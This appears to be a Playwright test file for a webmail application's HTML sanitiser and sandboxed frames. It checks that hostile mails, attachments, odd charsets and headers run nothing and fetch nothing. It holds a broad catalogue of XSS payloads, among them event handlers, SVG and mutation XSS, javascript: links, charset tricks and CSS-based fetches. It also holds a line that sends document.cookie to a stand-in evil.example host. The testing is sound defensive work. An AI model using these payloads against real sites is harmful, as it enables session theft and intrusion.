"""Mails that want to run something, fetch something or read a cookie: in a real browser none of it happens.

Each is opened in its thread, on its own page, and by the address of its frame and of each part alone.
"""

from collections.abc import Callable
from typing import Final

import httpx
import msgspec
import pytest
from playwright.async_api import Error, Page, Route
from tests.browser.conftest import Visitor
from tests.web.mail.letters import PIXEL, Part, attached, deliver, letter

from syncline.gateways.mime.html import SafeHtml
from syncline.web.mail import frames

pytestmark = pytest.mark.asyncio(loop_scope="session")

DO: Final = "top.owned=1;parent.owned=1;document.title='owned';new Image().src='https://evil.example/'+document.cookie"
"""What a script would do if it could."""

HTML: Final = {
    "script": f"<script>{DO}</script><script src='https://evil.example/x.js'></script>",
    "handlers": f'<img src=x onerror="{DO}"><body onload="{DO}"><input autofocus onfocus="{DO}">'
    f'<details open ontoggle="{DO}"><marquee onstart="{DO}"><video><source onerror="{DO}"></video>',
    "svg": f'<svg onload="{DO}"><script>{DO}</script><animate attributeName=href values="javascript:{DO}">'
    f'<foreignObject><img src=x onerror="{DO}"></foreignObject><use href="data:image/svg+xml,x"></svg>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='
    f'{DO}&gt;"><noscript><p title="</noscript><img src=x onerror={DO}>">',
    "links": f'<a id=l href="javascript:{DO}">1</a><a href="java&#9;script:{DO}">2</a>'
    f'<a href="data:text/html,<script>{DO}</script>">3</a><a href="vbscript:x">4</a>'
    '<a href="https://good.example/" ping="https://evil.example/ping">5</a>',
    "pictures": '<img src="https://evil.example/a.png"><img srcset="https://evil.example/b.png 2x">'
    '<picture><source srcset="https://evil.example/c.png"><img src="//evil.example/d.png"></picture>'
    '<table background="https://evil.example/e.png"><tr><td>x</table>'
    '<input type=image src="http://evil.example/f">'
    '<video poster="https://evil.example/g.png"></video><audio src="https://evil.example/h" autoplay></audio>'
    '<img src="\thttps://evil.example/i.png"><img src="/message/1/raw"><img src="x.png">',
    "styles": "<style>@import 'https://evil.example/a.css'; p { background: url(//evil.example/b) }</style>"
    '<link rel=stylesheet href="https://evil.example/c.css"><link rel=prefetch href="https://evil.example/d">'
    '<link rel=preconnect href="https://evil.example/"><link rel=dns-prefetch href="//evil.example">'
    "<p style='background:url(https://evil.example/e)'>x</p><p style='background:u\\72l(//evil.example/f)'>"
    "<p style=\"background-image:image-set('https://evil.example/g' 1x)\">x</p>"
    '<p style="position:fixed;inset:0;z-index:9">over everything</p>',
    "leaving": '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">'
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta charset=utf-7>',
    "frames": f'<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>{DO}</script>"></iframe>'
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
    '<frameset><frame src="https://evil.example/f"></frameset><portal src="https://evil.example/p">'
    f"<div><template shadowrootmode=open><script>{DO}</script></template></div>",
    "forms": '<form id=f action="https://evil.example/" target=_top><input name=password><button>x</button>'
    '</form><button form=f formaction="https://evil.example/">x</button><form action="/logout" method=post>',
    "htmx": '<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="top.owned=1">'
    '<div data-hx-post="/logout" data-hx-trigger="load">',
}
"""HTML bodies by what they try."""

SVG: Final = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{DO}"><script>{DO}</script>'
    '<image href="https://evil.example/s.png"/></svg>'
).encode()

PAGE: Final = (
    f"<!doctype html><title>x</title><script>{DO}</script><img src='https://evil.example/p.png'>".encode()
)


class Watch(msgspec.Struct):
    """What must not happen, as it is seen from outside of the page."""

    foreign: list[str]
    dialogs: list[str]
    opened: list[str]


async def watch(visitor: Visitor) -> Watch:
    """Hold every request to another host, and note it. At the end the visitor checks what was asked for."""
    seen = Watch([], [], [])

    async def hold(route: Route) -> None:
        if route.request.url.startswith(visitor.site.url):
            await route.continue_()
        else:
            seen.foreign.append(route.request.url)
            await route.abort()

    async def dismiss(dialog: object) -> None:
        seen.dialogs.append(str(dialog))

    await visitor.page.context.route("**/*", hold)
    visitor.page.on("dialog", dismiss)
    visitor.page.context.on("page", lambda page: seen.opened.append(page.url))
    return seen


def stopped_by_policy(page: Page) -> set[str]:
    """Requests that Chromium names although the policy keeps it from sending them."""
    stopped: set[str] = set()
    page.on("requestfailed", lambda one: stopped.add(one.url) if one.failure == "csp" else None)
    return stopped


async def harmless(page: Page) -> None:
    """Nothing ran: not in the page, not in one of its frames; and no frame can read a cookie."""
    assert await page.evaluate("window.owned") is None
    assert await page.title() != "owned"
    for frame in page.frames:
        assert await frame.evaluate("window.owned") is None
        assert await frame.evaluate(_COOKIE) == ""
        assert (
            await frame.evaluate("document.querySelectorAll('script:not([src]), iframe[srcdoc]').length") == 0
        )


_COOKIE: Final = "() => { try { return document.cookie } catch { return '' } }"


async def look(visitor: Visitor, path: str) -> None:
    """Open an address; what is a download opens nothing."""
    try:
        await visitor.page.goto(visitor.site.url + path)
    except Error as error:
        if "Download is starting" not in str(error) and "ERR_ABORTED" not in str(error):
            raise
        return
    await visitor.page.wait_for_timeout(60)
    await harmless(visitor.page)


@pytest.mark.parametrize("name", HTML)
async def test_an_html_mail_runs_nothing_and_fetches_nothing(visitor: Visitor, name: str) -> None:
    seen = await watch(visitor)
    await deliver(visitor.site, letter(text=None, html=f"<p>seen</p>{HTML[name]}"), state=[])
    await visitor.sign_in()
    for path in ("/thread/1", "/message/1", "/message/1/html", "/message/1/body"):
        await look(visitor, path)
        assert seen == Watch([], [], []), path
    await visitor.open("/message/1")
    frame = visitor.page.frame_locator("iframe")
    assert "seen" in await frame.locator("body").inner_text()
    visitor.expect("Failed to load resource")  # a picture of our own that is not there


@pytest.mark.parametrize("name", HTML)
async def test_the_frame_would_hold_even_if_nothing_were_cleaned(
    visitor: Visitor, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The mail's HTML goes out as it came: sandbox and policy alone keep it from running and fetching."""

    def uncleaned(html: str, **_: object) -> SafeHtml:
        return SafeHtml(html, 0)

    monkeypatch.setattr(frames, "safe_html", uncleaned)
    page = visitor.page
    stopped = stopped_by_policy(page)
    seen = await watch(visitor)
    await deliver(visitor.site, letter(text=None, html=f"<p>seen</p>{HTML[name]}"), state=[])
    await visitor.sign_in()
    for path in ("/message/1", "/message/1/html"):
        await page.goto(visitor.site.url + path)
        await page.wait_for_timeout(150)
        assert await page.evaluate("window.owned") is None
        assert await page.title() != "owned"
        assert seen == Watch([], [], []), path
        assert page.url == visitor.site.url + path
    visitor.problems.clear()  # the browser tells of each thing that it stopped
    visitor.asked = [url for url in visitor.asked if url not in stopped]


@pytest.mark.parametrize("name", ["links", "forms"])
@pytest.mark.parametrize("cleaned", [True, False])
async def test_whatever_one_clicks_in_a_mail_leads_to_a_web_page_or_nowhere(
    visitor: Visitor, name: str, cleaned: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Scripts in links, data: pages, pings and forms: a click runs and sends nothing."""
    if not cleaned:
        monkeypatch.setattr(frames, "safe_html", lambda html, **_: SafeHtml(html, 0))
    stopped = stopped_by_policy(visitor.page)
    seen = await watch(visitor)
    await deliver(visitor.site, letter(text=None, html=HTML[name]), state=[])
    await visitor.sign_in()
    await visitor.open("/message/1")
    clickable = visitor.page.frame_locator("iframe").locator("a, button")
    for at in range(await clickable.count()):
        await clickable.nth(at).click(force=True)
        await visitor.page.wait_for_timeout(100)
        assert await visitor.page.evaluate("window.owned") is None
        assert visitor.page.url == visitor.site.url + "/message/1"
    assert set(seen.foreign) <= {"https://good.example/"}
    for page in visitor.page.context.pages[1:]:
        assert await page.title() != "owned"
    jar = {one.get("name", ""): one.get("value", "") for one in await visitor.page.context.cookies()}
    async with httpx.AsyncClient(base_url=visitor.site.url, cookies=jar) as client:
        assert (await client.get("/search")).status_code == 200, "somebody was signed out"
    visitor.problems.clear()
    assert cleaned is False or not stopped
    visitor.asked = [url for url in visitor.asked if url not in stopped]


async def test_attachments_run_nothing_when_they_are_opened_alone(visitor: Visitor) -> None:
    """HTML, SVG, XML and scripts by whatever type they claim, and a picture that is a page."""
    seen = await watch(visitor)
    types = ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/javascript"]
    parts = [
        attached("x.svg" if "svg" in type else "x.html", type, SVG if "xml" in type else PAGE)
        for type in types
    ]
    parts += [attached("x.png", "image/png", PAGE), attached("x", "image/svg+xml; charset=utf-7", SVG)]
    parts += [Part("Content-Type: TEXT/HTML", PAGE), Part("Content-Type: text/html, text/plain", PAGE)]
    await deliver(visitor.site, letter(parts=parts), state=[])
    await visitor.sign_in()
    for no in range(len(parts) + 1):
        await look(visitor, f"/message/1/part/{no}")
        assert seen == Watch([], [], []), no
    for path in ("/message/1/raw", "/message/1", "/thread/1"):
        await look(visitor, path)
    assert seen == Watch([], [], [])
    visitor.expect("Applying inline style")  # what Chromium itself puts around XML


async def test_pictures_inside_a_mail_are_shown_and_only_if_they_are_pictures(visitor: Visitor) -> None:
    """`cid:` leads to the mail's own raster pictures; to an SVG, a page, or out of its quotes it does not."""
    seen = await watch(visitor)
    breaking = 'x" onerror="top.owned=1'
    html = (
        '<img alt=good src="cid:good@x"><img alt=vector src="cid:vector@x"><img alt=page src="cid:page@x">'
        f"<img alt=breaking src='cid:{breaking}'><img alt=none src='cid:none'>"
    )
    parts = [
        attached("good.png", "image/png", PIXEL, cid="good@x"),
        attached("vector.svg", "image/svg+xml", SVG, cid="vector@x"),
        attached("page.png", "text/html", PAGE, cid="page@x"),
        attached("breaking.png", "image/png", PIXEL, cid=breaking),
    ]
    await deliver(visitor.site, letter(text=None, html=html, parts=parts), state=[])
    await visitor.sign_in()
    await visitor.open("/message/1")
    frame = visitor.page.frames[1]
    await frame.wait_for_function("document.images[0].naturalWidth === 1")
    shown = await frame.evaluate("[...document.images].map(one => [one.alt, one.naturalWidth])")
    assert [alt for alt, width in shown if width] == ["good"]
    await harmless(visitor.page)
    assert seen == Watch([], [], [])


async def test_remote_pictures_are_asked_for_only_after_a_click(visitor: Visitor) -> None:
    """And then without a cookie or a word of where they are shown."""
    asked: list[tuple[str, dict[str, str]]] = []

    async def remote(route: Route) -> None:
        asked.append((route.request.url, await route.request.all_headers()))
        await route.fulfill(body=PIXEL, content_type="image/png")

    page = visitor.page
    await page.context.route("https://pictures.example/**", remote)
    html = '<img src="https://pictures.example/a.png"><p style="background:url(https://pictures.example/b)">x</p>'
    await deliver(visitor.site, letter(text=None, html=html + HTML["script"]), state=[])
    await visitor.sign_in()
    await visitor.open("/thread/1")
    await visitor.open("/message/1")
    await page.wait_for_timeout(100)
    assert asked == []
    async with page.expect_request("https://pictures.example/**"):
        await page.get_by_role("link", name="Show remote pictures").click()
    await harmless(page)
    ((url, headers),) = asked
    assert url == "https://pictures.example/a.png"
    assert "cookie" not in headers
    assert "referer" not in headers
    visitor.asked.remove(url)


async def test_a_link_in_a_mail_opens_a_page_that_knows_nothing_of_us(visitor: Visitor) -> None:
    """A new page without opener and referrer; the mail stays where it was."""
    page, headers = visitor.page, {}

    async def answer(route: Route) -> None:
        headers.update(await route.request.all_headers())
        await route.fulfill(body="<title>there</title>", content_type="text/html")

    await page.context.route("https://good.example/**", answer)
    both = letter(text="see https://good.example/text", html='<a href="https://good.example/html">go</a>')
    await deliver(visitor.site, both, state=[])
    await visitor.sign_in()
    openings: list[tuple[str, Callable[[], object]]] = [
        ("/message/1", lambda: page.frame_locator("iframe").get_by_role("link", name="go").click()),
        ("/thread/1", lambda: page.get_by_role("link", name="https://good.example/text").click()),
    ]
    for path, click in openings:
        headers.clear()
        await visitor.open(path)
        async with page.context.expect_page() as opening:
            await click()  # type: ignore[misc]
        opened = await opening.value
        await opened.wait_for_load_state()
        assert await opened.evaluate("window.opener") is None
        assert await opened.evaluate("document.referrer") == ""
        assert "referer" not in headers
        assert page.url == visitor.site.url + path
        await opened.close()


@pytest.mark.parametrize(
    ("charset", "data"),
    [
        ("utf-7", b"+ADw-script+AD4-top.owned+AD0-1+ADw-/script+AD4-"),
        ("utf-16", "<script>top.owned=1</script>".encode("utf-16")),
        ("utf-16le", "<script>top.owned=1</script>".encode("utf-16-le")),
        ("iso-2022-jp", b'<img alt="\x1b$B"><p title="\x1b(B onerror=top.owned=1 src=x">'),
        ("hz-gb-2312", b'<img alt="~{"><p title="~} onerror=top.owned=1 src=x">'),
        ("x-user-defined", b"<scr\x00ipt>top.owned=1</script>"),
        ("us-ascii", b"\xbcscript\xbetop.owned=1\xbc/script\xbe"),
        (
            "utf-8",
            b"\xef\xbb\xbf<\xc0\xbcscript>top.owned=1</script>\xf0\x28\x8c\x28<script\x0c>top.owned=1</script>",
        ),
    ],
)
async def test_no_charset_hides_a_script(visitor: Visitor, charset: str, data: bytes) -> None:
    seen = await watch(visitor)
    head = f"From: x <x@x>\nMessage-ID: <1@x>\nContent-Type: text/html; charset={charset}\n\n<p>seen</p>"
    await deliver(visitor.site, head.encode() + data, state=[])
    await visitor.sign_in()
    for path in ("/thread/1", "/message/1", "/message/1/html", "/message/1/part/0"):
        await look(visitor, path)
    assert seen == Watch([], [], [])
    visitor.expect("Failed to load resource")


async def test_hostile_names_and_subjects_are_text_everywhere(visitor: Visitor) -> None:
    """In headers, file names, labels and queries; with direction tricks and line ends, too."""
    seen = await watch(visitor)
    evil = f'"\'><img src=x onerror="{DO}"><script>{DO}</script>'
    raw = letter(
        subject=evil,
        sender=f'"{evil.replace(chr(34), chr(39))}" <eve@example.org>',
        text=evil,
        parts=[attached(evil.replace('"', "'"), "application/octet-stream", b"x")],
        more='Cc: a\u202ec <a\'onmouseover=alert(1)@x>, "\r\n <script>" <b@x>',
    )
    await deliver(visitor.site, raw, "<img src=x onerror=top.owned=1>", "inbox")
    await visitor.sign_in()
    for path in (
        "/",
        "/thread/1",
        "/message/1",
        "/labels",
        "/contacts",
        "/thread/1/info",
        "/home",
        "/search?q=%3Cscript%3E",
    ):
        await look(visitor, path)
        assert await visitor.page.locator("img[onerror], [onmouseover]").count() == 0, path
    assert seen == Watch([], [], [])
